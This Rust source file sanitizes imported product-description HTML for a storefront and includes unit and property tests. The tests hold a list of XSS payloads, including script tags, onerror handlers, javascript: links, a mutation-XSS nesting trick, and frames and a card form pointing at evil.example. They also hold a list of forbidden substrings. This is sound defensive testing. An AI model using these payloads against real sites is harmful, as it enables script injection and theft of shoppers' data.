//! Product descriptions are HTML from outside and end up in a storefront's page. What could run there
//! (scripts, event handlers, `javascript:` addresses, frames, styles) is taken out at import.

use std::collections::HashSet;
use std::sync::LazyLock;

/// Rounds after which a text that still changes is taken for an attack on the parser, not for markup.
const ROUNDS: usize = 8;

static DESCRIPTION: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut allowed = ammonia::Builder::default();
    allowed.url_relative(ammonia::UrlRelative::PassThrough);
    allowed
});

static TEXT_ONLY: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut allowed = ammonia::Builder::empty();
    allowed.clean_content_tags(HashSet::from(["script", "style"]));
    allowed
});

/// The same description with everything removed that a browser could run or load as a frame; text,
/// lists, tables, links and images stay.
///
/// Idempotent: what it returns comes back unchanged, so an exported catalogue imports without a change.
pub fn sanitize(html: &str) -> String {
    settle(&DESCRIPTION, html).or_else(|| settle(&TEXT_ONLY, html)).unwrap_or_default()
}

/// One round of cleaning may leave text that parses differently the next time (nesting the parser
/// repairs, `&#13;`), so it is repeated until nothing changes; `None` when it never settles.
fn settle(allowed: &ammonia::Builder<'_>, html: &str) -> Option<String> {
    let mut current = html.to_owned();
    for _ in 0..ROUNDS {
        let cleaned = allowed.clean(&current).to_string();
        if cleaned == current {
            return Some(cleaned);
        }
        current = cleaned;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::sanitize;
    use proptest::prelude::*;

    #[test]
    fn nothing_that_runs_survives() {
        let attacks = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" java\nscript:alert(1)\">x</a>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=\"//evil.example\"></iframe>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<form action=//evil.example><input name=card></form>",
        ];
        for attack in attacks {
            let clean = sanitize(attack).to_lowercase();
            for bad in ["<script", "onerror", "javascript:", "<iframe", "<style", "style=", "<form", "<svg"] {
                assert!(!clean.contains(bad), "{bad} survived in {clean:?}, made from {attack:?}");
            }
        }
    }

    #[test]
    fn ordinary_descriptions_keep_their_shape() {
        let body = "<p>Soft <strong>chambray</strong>, 4.9&nbsp;oz.</p>\n<ul><li>Two pockets</li></ul>";
        assert_eq!(sanitize(body), body);
        assert_eq!(sanitize("<p>a</p>\r\n<p>b</p>"), "<p>a</p>\n<p>b</p>");
        assert_eq!(sanitize("Plain words"), "Plain words");
        assert_eq!(sanitize("<img src=\"/media/a.jpg\" alt=\"A\">"), "<img src=\"/media/a.jpg\" alt=\"A\">");
    }

    fn markup() -> impl Strategy<Value = String> {
        let piece = prop::sample::select(vec![
            "<p>",
            "</p>",
            "<a href=x>",
            "</a>",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<b>",
            "<i>",
            "</b>",
            "</i>",
            "<svg>",
            "<math>",
            "<style>",
            "</style>",
            "<script>",
            "</script>",
            "<pre>\n",
            "\n",
            "\r",
            "&#13;",
            "&lt;",
            "&amp;lt;",
            "<!--",
            "-->",
            "<select>",
            "<option>",
            "<li>",
            "<ul>",
            "text",
            "\u{a0}",
            "\0",
            "<img src=x ",
            "onerror=y>",
            "'",
            "\"",
            "<textarea>",
            "<title>",
            "<noscript>",
            "&nbsp",
            "<h1>",
            "<details>",
            "<ruby><rt>",
        ]);
        prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn cleaning_twice_changes_nothing_more(html in markup()) {
            let once = sanitize(&html);
            prop_assert_eq!(sanitize(&once), once);
        }

        #[test]
        fn cleaning_any_text_twice_changes_nothing_more(html in "[<>/&;a-c\"'= \\r\\n\u{a0}\u{0}]{0,40}") {
            let once = sanitize(&html);
            prop_assert_eq!(sanitize(&once), once);
        }
    }
}
